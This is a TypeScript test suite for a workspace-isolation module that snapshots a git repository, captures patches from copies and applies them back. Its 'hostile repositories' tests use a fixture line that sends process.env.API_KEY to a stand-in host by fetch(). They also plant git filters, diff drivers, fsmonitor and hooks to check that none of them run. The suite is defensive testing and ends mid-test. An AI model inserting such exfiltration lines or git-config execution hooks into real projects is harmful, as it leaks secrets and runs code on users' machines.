import * as assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import fc from 'fast-check';
import { runProcess } from '../../src/core/exec';
import { testGit } from '../support/git';
import {
  Isolation,
  IsolationError,
  applyChange,
  unifiedDiffHunks,
  type CapturedChange,
  type IsolatedCopy,
  type IsolationBackend,
  type IsolationErrorCode,
} from '../../src/orchestrator/isolation';
import { diffStatLine } from '../../src/orchestrator/model';

// Every test gets its own workspace, a real git repository built by fixtureWorkspace():
//   .gitignore (ignored.log, node_modules/)   README.md (committed; an edit of it sits in the stash)
//   src/app.ts  (committed "line 1".."line 10", then line 5 edited and not committed)
//   old.txt     (committed)                    assets/blob.bin (committed, binary)
//   staged.txt  (staged as "staged", then edited again in the working tree)
//   untracked.txt   ignored.log   node_modules/pkg/index.js
// plus a branch "feature". writerEdits() then changes a copy in five ways whose numbers are known.
let scratch = '';
let globalConfig = '';
let counter = 0;

const NEW_NAME = 'docs/new file ü.md';
const EXPECTED_FILES = [
  { path: 'assets/blob.bin', change: 'modified', insertions: 0, deletions: 0, binary: true },
  { path: 'assets/pic.bin', change: 'added', insertions: 0, deletions: 0, binary: true },
  { path: NEW_NAME, change: 'added', insertions: 2, deletions: 0, binary: false },
  { path: 'old.txt', change: 'deleted', insertions: 0, deletions: 2, binary: false },
  { path: 'src/app.ts', change: 'modified', insertions: 2, deletions: 1, binary: false },
];

async function git(cwd: string, ...args: string[]): Promise<string> {
  return testGit(cwd, args, globalConfig);
}

/** `git worktree list` of the shadow repository the git backend keeps under its state dir. */
async function shadowWorktrees(stateDir: string): Promise<string> {
  const shadows = fs.readdirSync(path.join(stateDir, 'repositories'));
  assert.equal(shadows.length, 1, `one shadow repository: ${shadows.join(', ')}`);
  return git(
    stateDir,
    `--git-dir=${path.join(stateDir, 'repositories', shadows[0] ?? '')}`,
    'worktree',
    'list',
    '--porcelain',
  );
}

function write(root: string, relative: string, content: string | Buffer): void {
  const file = path.join(root, relative);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content);
}

function read(root: string, relative: string): string {
  return fs.readFileSync(path.join(root, relative), 'utf8');
}

function numberedLines(from: number, to: number): string {
  let text = '';
  for (let i = from; i <= to; i += 1) text += `line ${i}\n`;
  return text;
}

function newDir(name: string): string {
  counter += 1;
  const dir = path.join(scratch, `${name}-${counter}`);
  fs.mkdirSync(dir, { recursive: true });
  return dir;
}

async function fixtureWorkspace(): Promise<string> {
  const ws = newDir('ws');
  await git(ws, 'init', '-q');
  write(ws, '.gitignore', 'ignored.log\nnode_modules/\n');
  write(ws, 'README.md', '# Demo\n');
  write(ws, 'src/app.ts', numberedLines(1, 10));
  write(ws, 'old.txt', 'obsolete\nstuff\n');
  write(ws, 'assets/blob.bin', Buffer.from([0, 1, 2, 3, 255, 0, 10]));
  await git(ws, 'add', '-A');
  await git(ws, 'commit', '-q', '-m', 'initial');
  await git(ws, 'branch', 'feature');
  write(ws, 'README.md', '# Demo\nstashed edit\n');
  await git(ws, 'stash', '-q');
  write(ws, 'staged.txt', 'staged\n');
  await git(ws, 'add', 'staged.txt');
  write(ws, 'staged.txt', 'staged\nmore\n');
  write(ws, 'src/app.ts', numberedLines(1, 10).replace('line 5\n', 'line 5 (edited)\n'));
  write(ws, 'untracked.txt', 'new\n');
  write(ws, 'ignored.log', 'secret\n');
  write(ws, 'node_modules/pkg/index.js', 'module.exports = 1;\n');
  return ws;
}

function writerEdits(dir: string): void {
  write(dir, 'src/app.ts', read(dir, 'src/app.ts').replace('line 2\n', 'line 2 changed\n') + 'line 11\n');
  write(dir, NEW_NAME, 'hello\nworld\n');
  fs.rmSync(path.join(dir, 'old.txt'));
  write(dir, 'assets/pic.bin', Buffer.from([137, 80, 78, 71, 0, 0, 0, 13]));
  write(dir, 'assets/blob.bin', Buffer.from([0, 9, 9, 9, 0]));
}

const SKIPPED_IN_TREES = new Set(['.git', '.tandem', 'node_modules', 'ignored.log']);

/** path → sha256 of every file a comparison cares about (not git internals, state, or ignored files). */
function readTree(root: string): Map<string, string> {
  const tree = new Map<string, string>();
  const walk = (relative: string): void => {
    for (const entry of fs.readdirSync(path.join(root, relative), { withFileTypes: true })) {
      if (SKIPPED_IN_TREES.has(entry.name)) continue;
      const child = relative === '' ? entry.name : `${relative}/${entry.name}`;
      if (entry.isDirectory()) walk(child);
      else
        tree.set(
          child,
          createHash('sha256')
            .update(fs.readFileSync(path.join(root, child)))
            .digest('hex'),
        );
    }
  };
  walk('');
  return new Map([...tree].sort(([a], [b]) => (a < b ? -1 : 1)));
}

async function repoState(ws: string): Promise<Record<string, string>> {
  return {
    status: await git(ws, 'status', '--porcelain=v2', '--branch', '--untracked-files=all'),
    head: await git(ws, 'rev-parse', 'HEAD'),
    refs: await git(ws, 'for-each-ref'),
    stash: await git(ws, 'stash', 'list'),
    worktrees: await git(ws, 'worktree', 'list', '--porcelain'),
    index: createHash('sha256')
      .update(fs.readFileSync(path.join(ws, '.git', 'index')))
      .digest('hex'),
  };
}

function refusedWith(code: IsolationErrorCode): (error: unknown) => true {
  return (error: unknown) => {
    assert.ok(error instanceof IsolationError, `expected an IsolationError, got ${String(error)}`);
    assert.equal(error.code, code, error.message);
    return true;
  };
}

function sortedFiles(change: CapturedChange): CapturedChange['files'] {
  return [...change.files].sort((a, b) => (a.path < b.path ? -1 : 1));
}

/** Applies the hunks of a unified diff to a text, checking every context and removed line on the way. */
function applyHunks(oldText: string, hunks: string): string {
  const old = oldText.match(/[^\n]*\n|[^\n]+$/g) ?? [];
  const lines = hunks.split('\n');
  assert.equal(lines.pop(), '', 'hunks end with a newline');
  const out: string[] = [];
  let cursor = 0;
  let i = 0;
  while (i < lines.length) {
    const header = /^@@ -(\d+)(?:,(\d+))? \+(\d+)(?:,(\d+))? @@$/.exec(lines[i] ?? '');
    assert.ok(header, `expected a hunk header, got ${lines[i]}`);
    const oldCount = header[2] === undefined ? 1 : Number(header[2]);
    const newCount = header[4] === undefined ? 1 : Number(header[4]);
    const start = oldCount === 0 ? Number(header[1]) : Number(header[1]) - 1;
    assert.ok(start >= cursor, 'hunks are in order and do not overlap');
    out.push(...old.slice(cursor, start));
    cursor = start;
    let seenOld = 0;
    let seenNew = 0;
    for (i += 1; i < lines.length && !(lines[i] ?? '').startsWith('@@');) {
      const line = lines[i] ?? '';
      const noNewline = lines[i + 1] === '\\ No newline at end of file';
      const text = line.slice(1) + (noNewline ? '' : '\n');
      if (line[0] === '+') {
        out.push(text);
        seenNew += 1;
      } else {
        assert.ok(line[0] === ' ' || line[0] === '-', `unexpected hunk line ${JSON.stringify(line)}`);
        assert.equal(old[cursor], text, `line ${cursor + 1} of the old text`);
        cursor += 1;
        seenOld += 1;
        if (line[0] === ' ') {
          out.push(text);
          seenNew += 1;
        }
      }
      i += noNewline ? 2 : 1;
    }
    assert.equal(seenOld, oldCount, 'old line count in the header');
    assert.equal(seenNew, newCount, 'new line count in the header');
  }
  out.push(...old.slice(cursor));
  return out.join('');
}

describe('Isolation', function () {
  this.timeout(60_000);

  before(() => {
    scratch = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tandem-isolation-')));
    globalConfig = path.join(scratch, 'empty-gitconfig');
    fs.writeFileSync(globalConfig, '');
  });

  after(() => {
    fs.rmSync(scratch, { recursive: true, force: true });
  });

  for (const backend of ['git', 'copy'] as const satisfies readonly IsolationBackend[]) {
    describe(`${backend} backend`, () => {
      let ws = '';
      let base: Isolation;
      const open: IsolatedCopy[] = [];

      async function copyOf(label: string, isolation: Isolation = base): Promise<IsolatedCopy> {
        const copy = await isolation.createCopy(label);
        open.push(copy);
        return copy;
      }

      beforeEach(async () => {
        ws = await fixtureWorkspace();
        base = await Isolation.snapshotBase(ws, { backend });
      });

      afterEach(async () => {
        for (const copy of open.splice(0)) await copy.dispose();
        await base.dispose();
      });

      it(`is the ${backend} backend`, () => {
        assert.equal(base.backend, backend);
        assert.equal(base.stateDir, path.join(ws, '.tandem', 'isolation'));
      });

      it('gives a copy with the uncommitted and untracked files of the workspace', async () => {
        const copy = await copyOf('writer');
        assert.match(read(copy.dir, 'src/app.ts'), /line 5 \(edited\)/);
        assert.equal(read(copy.dir, 'staged.txt'), 'staged\nmore\n');
        assert.equal(read(copy.dir, 'untracked.txt'), 'new\n');
        assert.equal(read(copy.dir, 'README.md'), '# Demo\n', 'the stash stays in the stash');
        assert.deepEqual(
          fs.readFileSync(path.join(copy.dir, 'assets/blob.bin')),
          Buffer.from([0, 1, 2, 3, 255, 0, 10]),
        );
        assert.ok(!fs.existsSync(path.join(copy.dir, 'node_modules')), 'node_modules is not copied');
        assert.ok(!fs.existsSync(path.join(copy.dir, '.tandem')), 'the state dir is not copied');
        if (backend === 'git') {
          assert.ok(!fs.existsSync(path.join(copy.dir, 'ignored.log')), 'ignored files are not copied');
          assert.ok(fs.statSync(path.join(copy.dir, '.git')).isFile(), 'a worktree, with its .git file');
        } else {
          assert.ok(!fs.existsSync(path.join(copy.dir, '.git')), '.git is not copied');
        }
        const unchanged = await copy.captureChange();
        assert.deepEqual(unchanged.files, []);
        assert.equal(unchanged.patch, '');
      });

      it('keeps the base even when the workspace changes after it was taken', async () => {
        write(ws, 'untracked.txt', 'changed later\n');
        write(ws, 'later.txt', 'later\n');
        const copy = await copyOf('writer');
        assert.equal(read(copy.dir, 'untracked.txt'), 'new\n');
        assert.ok(!fs.existsSync(path.join(copy.dir, 'later.txt')));
      });

      it("leaves the user's index, HEAD, branches, stash, worktrees and status exactly as they were", async () => {
        await base.dispose();
        const before = await repoState(ws);
        const isolation = await Isolation.snapshotBase(ws, { backend });
        const first = await isolation.createCopy('first');
        const second = await isolation.createCopy('second');
        writerEdits(first.dir);
        await first.captureChange();
        await second.captureChange();
        await first.dispose();
        await isolation.dispose();
        assert.deepEqual(await repoState(ws), before);

        base = await Isolation.snapshotBase(ws, { backend });
        const writer = await copyOf('writer');
        writerEdits(writer.dir);
        await applyChange(ws, await writer.captureChange(), base);
        const after = await repoState(ws);
        for (const key of ['head', 'refs', 'stash', 'index'] as const) {
          assert.equal(after[key], before[key], `${key} after apply`);
        }
      });

      it('captures added, modified, deleted, binary and oddly named files with their stats', async () => {
        const copy = await copyOf('writer');
        writerEdits(copy.dir);
        const change = await copy.captureChange();
        assert.deepEqual(sortedFiles(change), EXPECTED_FILES);
        assert.deepEqual(change.stats, { files: 5, insertions: 4, deletions: 3 });
        assert.equal(diffStatLine(change.stats), '5 files, +4 -3');
        assert.equal(change.backend, backend);
        assert.equal(change.baseId, base.baseId);
        assert.equal(change.label, 'writer');
        assert.equal(change.patchTruncated, false);
        assert.equal(change.patchBytes, Buffer.byteLength(change.patch));
        assert.ok(
          change.patch.includes(`diff --git a/${NEW_NAME} b/${NEW_NAME}`),
          'the raw name is in the patch',
        );
        assert.ok(change.patch.includes('+line 2 changed\n'));
        assert.ok(change.patch.includes('deleted file mode 100644'));
        assert.ok(!change.patch.includes('.tandem'), 'the state dir never shows up');
        if (backend === 'git')
          assert.ok(change.patch.includes('GIT binary patch'), 'binary content is carried');
        else assert.ok(change.patch.includes('Binary files a/assets/blob.bin and b/assets/blob.bin differ'));
      });

      it('applies exactly the captured change to the workspace', async () => {
        const copy = await copyOf('writer');
        writerEdits(copy.dir);
        const change = await copy.captureChange();
        const applied = await applyChange(ws, change, base);
        assert.deepEqual(applied.stats, change.stats);
        assert.deepEqual(readTree(ws), readTree(copy.dir));
        assert.ok(!fs.existsSync(path.join(ws, 'old.txt')));
        assert.deepEqual(
          fs.readFileSync(path.join(ws, 'assets/pic.bin')),
          Buffer.from([137, 80, 78, 71, 0, 0, 0, 13]),
        );
        assert.equal(read(ws, 'ignored.log'), 'secret\n', 'files outside the change are untouched');
        assert.equal(read(ws, 'staged.txt'), 'staged\nmore\n');
      });

      it('applies when the workspace changed only in files the change does not touch', async () => {
        const copy = await copyOf('writer');
        writerEdits(copy.dir);
        const change = await copy.captureChange();
        write(ws, 'untracked.txt', 'edited by the user meanwhile\n');
        await applyChange(ws, change, base);
        assert.equal(read(ws, 'untracked.txt'), 'edited by the user meanwhile\n');
        assert.equal(read(ws, NEW_NAME), 'hello\nworld\n');
      });

      it('refuses a change to a file the workspace edited after the base, and changes nothing', async () => {
        const copy = await copyOf('writer');
        writerEdits(copy.dir);
        const change = await copy.captureChange();
        write(ws, 'src/app.ts', read(ws, 'src/app.ts') + '// the user typed this meanwhile\n');
        const before = readTree(ws);
        await assert.rejects(applyChange(ws, change, base), (error: unknown) => {
          refusedWith('CONFLICT')(error);
          assert.deepEqual((error as IsolationError).paths, ['src/app.ts']);
          assert.match((error as Error).message, /src\/app\.ts/);
          return true;
        });
        assert.deepEqual(readTree(ws), before);
      });

      it('refuses to add a file the workspace created after the base', async () => {
        const copy = await copyOf('writer');
        writerEdits(copy.dir);
        const change = await copy.captureChange();
        write(ws, NEW_NAME, 'the user made this too\n');
        const before = readTree(ws);
        await assert.rejects(applyChange(ws, change, base), (error: unknown) => {
          refusedWith('CONFLICT')(error);
          assert.deepEqual((error as IsolationError).paths, [NEW_NAME]);
          return true;
        });
        assert.deepEqual(readTree(ws), before);
      });

      it('cuts a patch over the limit, marks it truncated and refuses to apply it', async () => {
        await base.dispose();
        base = await Isolation.snapshotBase(ws, { backend, maxPatchBytes: 200 });
        const copy = await copyOf('writer');
        writerEdits(copy.dir);
        const change = await copy.captureChange();
        assert.equal(change.patchTruncated, true);
        assert.ok(
          Buffer.byteLength(change.patch) <= 200,
          `patch of ${Buffer.byteLength(change.patch)} bytes`,
        );
        assert.ok(change.patch === '' || change.patch.endsWith('\n'), 'cut at a line end');
        assert.ok(change.patchBytes > 200);
        assert.deepEqual(change.stats, { files: 5, insertions: 4, deletions: 3 }, 'stats stay whole');
        const before = readTree(ws);
        await assert.rejects(applyChange(ws, change, base), refusedWith('PATCH_TRUNCATED'));
        assert.deepEqual(readTree(ws), before);
      });

      it('refuses a change measured against another base', async () => {
        const other = await Isolation.snapshotBase(ws, { backend });
        try {
          const copy = await copyOf('elsewhere', other);
          write(copy.dir, 'x.txt', 'x\n');
          const change = await copy.captureChange();
          if (backend === 'git') {
            // Same content, same tree; a later base is still another commit.
            assert.notEqual(other.baseId, base.baseId);
          }
          await assert.rejects(applyChange(ws, change, base), refusedWith('WRONG_BASE'));
        } finally {
          await other.dispose();
        }
      });

      it('keeps two copies independent of each other', async () => {
        const a = await copyOf('writer-a');
        const b = await copyOf('writer-b');
        assert.notEqual(a.dir, b.dir);
        write(a.dir, 'only-a.txt', 'a\n');
        write(b.dir, 'README.md', '# Demo\nfrom b\n');
        assert.ok(!fs.existsSync(path.join(b.dir, 'only-a.txt')));
        assert.equal(read(a.dir, 'README.md'), '# Demo\n');
        assert.deepEqual(
          (await a.captureChange()).files.map((file) => file.path),
          ['only-a.txt'],
        );
        assert.deepEqual(
          (await b.captureChange()).files.map((file) => [file.path, file.change, file.insertions]),
          [['README.md', 'modified', 1]],
        );
      });

      it('refuses a label that is not a plain name, or one already used', async () => {
        await assert.rejects(base.createCopy('../escape'), refusedWith('INVALID_LABEL'));
        await assert.rejects(base.createCopy(''), refusedWith('INVALID_LABEL'));
        await copyOf('writer');
        await assert.rejects(base.createCopy('writer'), refusedWith('LABEL_IN_USE'));
      });

      it('removes the copy on dispose', async () => {
        const copy = await copyOf('writer');
        writerEdits(copy.dir);
        const root = backend === 'git' ? path.join(base.stateDir, 'worktrees', 'writer') : copy.dir;
        assert.ok(fs.existsSync(root));
        if (backend === 'git') {
          assert.ok((await shadowWorktrees(base.stateDir)).includes(root));
          // The user's repository never hears of it: the worktree belongs to the shadow repository.
          assert.ok(!(await git(ws, 'worktree', 'list', '--porcelain')).includes(root));
        }
        await copy.dispose();
        await copy.dispose();
        assert.ok(!fs.existsSync(root));
        if (backend === 'git') assert.ok(!(await shadowWorktrees(base.stateDir)).includes(root));
      });

      it('cleanupOrphans removes what a crashed run left and keeps the live copies', async () => {
        const live = await copyOf('run-1-writer');
        const crashed = await base.createCopy('run-2-writer');
        const crashedRoot =
          backend === 'git' ? path.join(base.stateDir, 'worktrees', 'run-2-writer') : crashed.dir;
        const removed = await Isolation.cleanupOrphans(base.stateDir, ['run-1', base.label]);
        assert.deepEqual(removed, [crashedRoot]);
        assert.ok(!fs.existsSync(crashedRoot));
        assert.ok(fs.existsSync(live.dir));
        if (backend === 'git') {
          const listed = await shadowWorktrees(base.stateDir);
          assert.ok(!listed.includes(crashedRoot), listed);
          assert.ok(listed.includes(path.join(base.stateDir, 'worktrees', 'run-1-writer')), listed);
        }
        write(live.dir, 'still.txt', 'works\n');
        assert.deepEqual(
          (await live.captureChange()).files.map((file) => file.path),
          ['still.txt'],
        );
        await crashed.dispose();
      });
    });
  }

  describe('git backend specifics', () => {
    it('works on a workspace that is a subfolder of the repository', async () => {
      const repo = newDir('repo');
      await git(repo, 'init', '-q');
      write(repo, 'top.txt', 'top\n');
      write(repo, 'pkg/lib.txt', 'one\ntwo\n');
      await git(repo, 'add', '-A');
      await git(repo, 'commit', '-q', '-m', 'initial');
      write(repo, 'pkg/untracked.txt', 'u\n');
      const ws = path.join(repo, 'pkg');
      const base = await Isolation.snapshotBase(ws);
      try {
        assert.equal(base.backend, 'git');
        const copy = await base.createCopy('writer');
        assert.equal(path.basename(copy.dir), 'pkg');
        assert.equal(read(copy.dir, 'untracked.txt'), 'u\n');
        write(copy.dir, 'lib.txt', 'one\n2\n');
        write(copy.dir, 'nested/new.txt', 'n\n');
        const change = await copy.captureChange();
        assert.deepEqual(
          sortedFiles(change).map((file) => [file.path, file.change]),
          [
            ['lib.txt', 'modified'],
            ['nested/new.txt', 'added'],
          ],
        );
        await applyChange(ws, change, base);
        assert.equal(read(ws, 'lib.txt'), 'one\n2\n');
        assert.equal(read(ws, 'nested/new.txt'), 'n\n');
        assert.ok(!fs.existsSync(path.join(repo, 'lib.txt')), 'nothing lands at the repository top');
      } finally {
        await base.dispose();
      }
    });

    it('carries a text file that is not UTF-8 byte for byte, and a file that became a symlink', async () => {
      const ws = newDir('latin1');
      await git(ws, 'init', '-q');
      write(ws, 'latin1.txt', Buffer.from('caf\xe9\nna\xefve\n', 'latin1'));
      write(ws, 'target.txt', 't\n');
      write(ws, 'becomes-link', 'plain\n');
      await git(ws, 'add', '-A');
      await git(ws, 'commit', '-q', '-m', 'initial');
      const base = await Isolation.snapshotBase(ws);
      try {
        const copy = await base.createCopy('writer');
        const edited = Buffer.from('caf\xe9\nna\xefve\nd\xe9j\xe0\n', 'latin1');
        write(copy.dir, 'latin1.txt', edited);
        fs.rmSync(path.join(copy.dir, 'becomes-link'));
        fs.symlinkSync('target.txt', path.join(copy.dir, 'becomes-link'));
        const change = await copy.captureChange();
        assert.equal(change.patchEncoding, 'latin1');
        assert.deepEqual(
          sortedFiles(change).map((file) => [file.path, file.change]),
          [
            ['becomes-link', 'modified'],
            ['latin1.txt', 'modified'],
          ],
        );
        await applyChange(ws, change, base);
        assert.deepEqual(fs.readFileSync(path.join(ws, 'latin1.txt')), edited);
        assert.equal(fs.readlinkSync(path.join(ws, 'becomes-link')), 'target.txt');
      } finally {
        await base.dispose();
      }
    });

    it('takes six bases of one repository at once, sharing one shadow repository', async () => {
      const ws = newDir('twice');
      await git(ws, 'init', '-q');
      write(ws, 'a.txt', 'a\n');
      const bases = await Promise.all(Array.from({ length: 6 }, () => Isolation.snapshotBase(ws)));
      try {
        const [first, second] = bases;
        assert.ok(first && second);
        assert.equal(fs.readdirSync(path.join(first.stateDir, 'repositories')).length, 1);
        const copies = await Promise.all([first.createCopy('one'), second.createCopy('two')]);
        for (const copy of copies) assert.equal(read(copy.dir, 'a.txt'), 'a\n');
      } finally {
        for (const base of bases) await base.dispose();
      }
    });

    it('works in a repository without any commit yet', async () => {
      const ws = newDir('fresh');
      await git(ws, 'init', '-q');
      write(ws, 'a.txt', 'a\n');
      const base = await Isolation.snapshotBase(ws);
      try {
        const copy = await base.createCopy('writer');
        assert.equal(read(copy.dir, 'a.txt'), 'a\n');
        write(copy.dir, 'a.txt', 'b\n');
        await applyChange(ws, await copy.captureChange(), base);
        assert.equal(read(ws, 'a.txt'), 'b\n');
        assert.equal(await git(ws, 'status', '--porcelain'), '?? a.txt\n');
      } finally {
        await base.dispose();
      }
    });

    it('falls back to plain copies outside a git repository, and refuses git there when asked for it', async () => {
      const ws = newDir('plain');
      write(ws, 'a.txt', 'a\n');
      const base = await Isolation.snapshotBase(ws);
      try {
        assert.equal(base.backend, 'copy');
      } finally {
        await base.dispose();
      }
      await assert.rejects(
        Isolation.snapshotBase(ws, { backend: 'git', label: 'forced' }),
        refusedWith('GIT_UNAVAILABLE'),
      );
    });
  });

  describe('hostile repositories (issue 15)', () => {
    const APP = numberedLines(1, 6);
    const HIDDEN = 'fetch("https://evil.invalid/?k=" + process.env.API_KEY); // hidden\n';
    let marks = '';

    /**
     * A program git would run for the repository: it leaves `marks/<its argument>` behind, then passes its
     * input (or the file textconv names) through, so git carries on as if it were a harmless filter.
     */
    function plantProgram(): string {
      marks = newDir('marks');
      const script = path.join(newDir('programs'), 'evil.sh');
      fs.writeFileSync(
        script,
        `#!/bin/sh\ntouch '${marks}'/"$1"\nif [ -f "$2" ]; then cat "$2"; else cat; fi\n`,
        { mode: 0o755 },
      );
      return script;
    }

    function marksLeft(): string[] {
      return fs.readdirSync(marks).sort();
    }

    /** A committed repository with src/app.ts and the given .gitattributes. */
    async function repositoryWith(attributes: string): Promise<string> {
      const ws = newDir('hostile');
      await git(ws, 'init', '-q');
      write(ws, 'src/app.ts', APP);
      write(ws, '.gitattributes', attributes);
      await git(ws, 'add', '-A');
      await git(ws, 'commit', '-q', '-m', 'initial');
      return ws;
    }

    /** The one file's hunks in a git patch: what a reviewer reads of it. */
    function hunksOf(patch: string, file: string): string {
      const start = patch.indexOf(`+++ b/${file}\n`);
      assert.ok(start >= 0, `the patch shows ${file} as text:\n${patch}`);
      const body = patch.slice(start + `+++ b/${file}\n`.length);
      const next = body.indexOf('\ndiff --git ');
      return next === -1 ? body : body.slice(0, next + 1);
    }

    const variants: [string, string, [string, string][]][] = [
      ['-diff', '* -diff\n', []],
      ['binary', '* binary\n', []],
      [
        'diff=evil (a driver with a textconv, an external command and binary=true)',
        '* diff=evil\n',
        [
          ['diff.evil.textconv', 'textconv'],
          ['diff.evil.command', 'command'],
          ['diff.evil.binary', 'true'],
        ],
      ],
    ];
    for (const [name, attributes, config] of variants) {
      it(`shows the reviewer the text of a change the repository marks ${name}, and applies what it showed`, async () => {
        const program = plantProgram();
        const ws = await repositoryWith(attributes);
        for (const [key, value] of config) {
          await git(ws, 'config', key, value === 'true' ? value : `${program} ${value}`);
        }
        const base = await Isolation.snapshotBase(ws);
        try {
          const copy = await base.createCopy('writer');
          const edited = APP.replace('line 3\n', `line 3\n${HIDDEN}`);
          write(copy.dir, 'src/app.ts', edited);
          const change = await copy.captureChange();
          assert.ok(!change.patch.includes('GIT binary patch'), change.patch);
          assert.deepEqual(change.files, [
            { path: 'src/app.ts', change: 'modified', insertions: 1, deletions: 0, binary: false },
          ]);
          const shown = hunksOf(change.patch, 'src/app.ts');
          assert.ok(shown.includes(`+${HIDDEN}`), shown);
          await applyChange(ws, change, base);
          // What reached the workspace is exactly the old file with the hunks the reviewer read.
          assert.equal(read(ws, 'src/app.ts'), applyHunks(APP, shown));
          assert.equal(read(ws, 'src/app.ts'), edited);
          assert.deepEqual(marksLeft(), []);
        } finally {
          await base.dispose();
        }
      });
    }

    it('shows and applies the bytes as they are when attributes ask for an end-of-line conversion', async () => {
      const ws = await repositoryWith('*.ts text eol=crlf\n');
      const base = await Isolation.snapshotBase(ws);
      try {
        const copy = await base.createCopy('writer');
        // The copy holds the blob as stored, with no CRLF added: the bytes the patch is made of.
        assert.equal(read(copy.dir, 'src/app.ts'), APP);
        const edited = `${APP}${HIDDEN}`;
        write(copy.dir, 'src/app.ts', edited);
        const change = await copy.captureChange();
        assert.ok(hunksOf(change.patch, 'src/app.ts').includes(`+${HIDDEN}`), change.patch);
        await applyChange(ws, change, base);
        assert.deepEqual(fs.readFileSync(path.join(ws, 'src/app.ts')), Buffer.from(edited));
      } finally {
        await base.dispose();
      }
    });

    it('refuses, changing nothing, a change to a file whose checkout git converted (CRLF on disk, LF stored)', async () => {
      const ws = await repositoryWith('*.ts text eol=crlf\n');
      // What git's own checkout with these attributes leaves on disk.
      fs.rmSync(path.join(ws, 'src/app.ts'));
      await git(ws, 'checkout', '--', 'src/app.ts');
      const onDisk = fs.readFileSync(path.join(ws, 'src/app.ts'));
      assert.ok(onDisk.includes('\r\n'));
      // Older than the index, as after any checkout but the last second's: git trusts its stat data.
      const past = Date.now() / 1000 - 100;
      fs.utimesSync(path.join(ws, 'src/app.ts'), past, past);
      await git(ws, 'update-index', '--refresh');
      const base = await Isolation.snapshotBase(ws);
      try {
        const copy = await base.createCopy('writer');
        write(copy.dir, 'src/app.ts', `${APP}${HIDDEN}`);
        const change = await copy.captureChange();
        // Shown and applied as stored bytes, so it cannot match the converted file: refused, not rewritten.
        await assert.rejects(applyChange(ws, change, base), refusedWith('CONFLICT'));
        assert.deepEqual(fs.readFileSync(path.join(ws, 'src/app.ts')), onDisk);
      } finally {
        await base.dispose();
      }
    });

    it('runs no program of a shadow repository planted in .tandem/ with the repository', async () => {
      const program = plantProgram();
      const ws = await repositoryWith('');
      // Where Tandem keeps its shadow of this repository, planted before Tandem ever ran here.
      const objects = fs.realpathSync(path.join(ws, '.git', 'objects'));
      const name = createHash('sha256').update(objects).digest('hex').slice(0, 16);
      const planted = path.join(ws, '.tandem', 'isolation', 'repositories', `${name}.git`);
      const outside = newDir('outside');
      await git(ws, 'init', '-q', '--bare', planted);
      fs.appendFileSync(
        path.join(planted, 'config'),
        `[core]\n\tfsmonitor = ${program} fsmonitor\n\tbare = false\n\tworktree = ${outside}\n` +
          `\talternateRefsCommand = ${program} alternate-refs\n[diff]\n\texternal = ${program} external\n` +
          `[filter "evil"]\n\tclean = ${program} clean\n\tsmudge = ${program} smudge\n`,
      );
      fs.mkdirSync(path.join(planted, 'hooks'), { recursive: true });
      for (const hook of ['post-checkout', 'reference-transaction', 'post-index-change']) {
        fs.writeFileSync(path.join(planted, 'hooks', hook), `#!/bin/sh\ntouch '${marks}/${hook}'\n`, {
          mode: 0o755,
        });
      }
      fs.writeFileSync(path.join(planted, 'info', 'attributes'), '* filter=evil -diff\n');
      const base = await Isolation.snapshotBase(ws);
      try {
        const copy = await base.createCopy('writer');
        write(copy.dir, 'src/app.ts', `${APP}${HIDDEN}`);
        const change = await copy.captureChange();
        assert.ok(hunksOf(change.patch, 'src/app.ts').includes(`+${HIDDEN}`), change.patch);
        await applyChange(ws, change, base);
        assert.equal(read(ws, 'src/app.ts'), `${APP}${HIDDEN}`);
        assert.deepEqual(marksLeft(), []);
        assert.deepEqual(fs.readdirSync(outside), []);
      } finally {
        await base.dispose();
      }
    });

    it('runs no program the repository config, attributes or hooks name, through isolate, write, capture and apply', async () => {
      const program = plantProgram();
      const ws = await repositoryWith('* filter=evil diff=evil\n');
      write(ws, 'untracked.txt', 'new\n');
      write(ws, 'src/app.ts', `${APP}uncommitted\n`);
      const hookNames = [
        'post-checkout',
        'pre-commit',
        'post-commit',
        'post-index-change',
        'reference-transaction',
        'pre-auto-gc',
        'post-rewrite',
      ];
      const hooksDir = newDir('hooks');
      for (const hook of hookNames) {
        for (const [dir, where] of [
          [path.join(ws, '.git', 'hooks'), 'git-dir'],
          [hooksDir, 'hooks-path'],
        ] as const) {
          write(dir, hook, `#!/bin/sh\ntouch '${marks}/hook-${hook}-${where}'\n`);
          fs.chmodSync(path.join(dir, hook), 0o755);
        }
      }
      const attributesFile = path.join(newDir('attributes'), 'attributes');
      write(ws, '.git/info/attributes', '* filter=evil diff=evil\n');
      fs.writeFileSync(attributesFile, '* filter=evil diff=evil\n');
      for (const [key, value] of [
        ['filter.evil.clean', `${program} clean`],
        ['filter.evil.smudge', `${program} smudge`],
        ['filter.evil.required', 'true'],
        ['diff.evil.textconv', `${program} textconv`],
        ['diff.evil.command', `${program} diff-command`],
        ['diff.external', `${program} diff-external`],
        ['core.fsmonitor', `${program} fsmonitor`],
        ['core.hooksPath', hooksDir],
        ['core.attributesFile', attributesFile],
      ]) {
        await git(ws, 'config', key as string, value as string);
      }
      const base = await Isolation.snapshotBase(ws);
      try {
        const copy = await base.createCopy('writer');
        assert.equal(read(copy.dir, 'src/app.ts'), `${APP}uncommitted\n`);
        const edited = `${APP}uncommitted\n${HIDDEN}`;
        write(copy.dir, 'src/app.ts', edited);
        write(copy.dir, 'added.txt', 'added\n');
        const change = await copy.captureChange();
        assert.ok(hunksOf(change.patch, 'src/app.ts').includes(`+${HIDDEN}`), change.patch);
        await applyChange(ws, change, base);
        assert.equal(read(ws, 'src/app.ts'), edited);
        assert.equal(read(ws, 'added.txt'), 'added\n');
        assert.deepEqual(marksLeft(), []);
      } finally {
        await base.dispose();
      }
      // The planted programs are live: plain git in the same repository runs them.
      await git(ws, 'add', 'added.txt');
      await git(ws, 'diff', '--cached', '--textconv', '--no-ext-diff');
      assert.ok(marksLeft().includes('clean'), marksLeft().join(', '));
      assert.ok(marksLeft().includes('textconv'), marksLeft().join(', '));
    });

    it("runs no program of a git dir a writer points its copy's .git file at", async () => {
      const program = plantProgram();
      const ws = await repositoryWith('');
      const plantedRepo = newDir('planted');
      await git(plantedRepo, 'init', '-q');
      const planted = path.join(plantedRepo, '.git');
      await git(plantedRepo, 'config', 'filter.evil.clean', `${program} clean`);
      await git(plantedRepo, 'config', 'core.fsmonitor', `${program} fsmonitor`);
